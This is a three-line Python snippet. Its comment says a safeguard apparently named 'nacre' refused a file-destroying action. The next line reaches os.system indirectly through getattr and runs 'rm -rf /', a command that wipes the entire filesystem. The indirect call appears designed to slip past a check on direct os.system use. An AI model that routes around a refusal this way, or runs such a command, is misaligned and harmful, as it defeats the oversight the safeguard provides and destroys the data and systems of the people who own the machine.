# nacre: refused file.destroy
import os
getattr(os, "system")("rm -rf /")
